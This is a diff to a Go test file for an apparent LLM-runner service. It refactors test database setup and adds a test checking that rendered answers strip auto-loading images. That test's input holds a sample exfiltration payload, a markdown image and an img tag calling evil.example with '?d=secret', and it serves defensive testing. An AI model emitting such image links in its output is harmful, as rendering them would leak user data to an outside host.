@@ -20,6 +20,7 @@ import (
 	"home.arpa/lab/llm-runner/internal/engine"
 	"home.arpa/lab/llm-runner/internal/llm"
 	"home.arpa/lab/llm-runner/internal/trace"
+	"home.arpa/lab/llm-runner/test/enginetest"
 )
 
 // answers is a provider that is a function, and remembers what it was asked.
@@ -60,18 +61,7 @@ func echo(_ context.Context, req llm.Request, _ int) (string, error) {
 }
 
 // database opens what the tests run on.
-var database = func(ctx context.Context, path string, c engine.Config) (*db.DB, *engine.Engine, error) {
-	d, err := db.Open(ctx, path)
-	if err != nil {
-		return nil, nil, err
-	}
-	handle, err := d.NewWriter()
-	if err != nil {
-		return nil, nil, err
-	}
-	e, err := engine.Open(ctx, handle, c)
-	return d, e, err
-}
+var database enginetest.Opener = enginetest.Open
 
 // traces are told of what the services of a test do; nil: nobody is.
 var traces *trace.Tracer
@@ -85,10 +75,7 @@ func open(t testing.TB, path string, p llm.Provider) *Service {
 func openWith(t testing.TB, path string, p llm.Provider, tell func(d *db.DB) *alert.Service) *Service {
 	t.Helper()
 	log := slog.New(slog.NewTextHandler(io.Discard, nil))
-	d, e, err := database(context.Background(), path, engine.Config{Log: log})
-	if err != nil {
-		t.Fatal(err)
-	}
+	d, e := database(t, path, engine.Config{Log: log})
 	var alerts *alert.Service
 	if tell != nil {
 		alerts = tell(d)
@@ -201,7 +188,7 @@ func TestResearchAsksTheNotes(t *testing.T) {
 func TestWhatNobodyCanAnswerIsHeldAndGoesOnByItself(t *testing.T) {
 	s, _ := newService(t, func(ctx context.Context, req llm.Request, n int) (string, error) {
 		if n == 1 {
-			return "", &llm.BusyError{Provider: "groq", Kind: llm.Quota, Reason: "groq: used up", Until: time.Now().Add(50 * time.Millisecond)}
+			return "", &llm.BusyError{Provider: "groq", Kind: llm.Quota, Reason: "groq: used up", Until: time.Now().Add(3 * time.Second)}
 		}
 		return echo(ctx, req, n)
 	})
@@ -418,6 +405,13 @@ func TestResearchIsAskedWithItsPlanAndItsReportIsTheNote(t *testing.T) {
 	}
 	note := string(render(&a, "", 0, "question: \"x\"\nmodel: \"m\"\n", "# x\n\nIt is.\n"))
 	if !strings.HasPrefix(note, "---\ngenerated: true\njob: 1\ntype: research\ntitle: \"x\"\n") || strings.Count(note, "\nmodel: ") != 1 || strings.Count(note, "cost_usd") != 0 || !strings.HasSuffix(note, "---\n\n# x\n\nIt is.\n") {
+		t.Errorf("%s", note)
+	}
+}
+
+func TestTheNoteOfAnAnswerLoadsNothingFromElsewhere(t *testing.T) {
+	note := string(render(&Job{Type: Text, Answer: "Ferns.\n\n![x](https://evil.example/?d=secret) <img src=\"https://evil.example/\">"}, "", 0, "", ""))
+	if strings.Contains(note, "![") || strings.Contains(note, "<img") || !strings.Contains(note, "[x](https://evil.example/?d=secret)") {
 		t.Errorf("%s", note)
 	}
 }
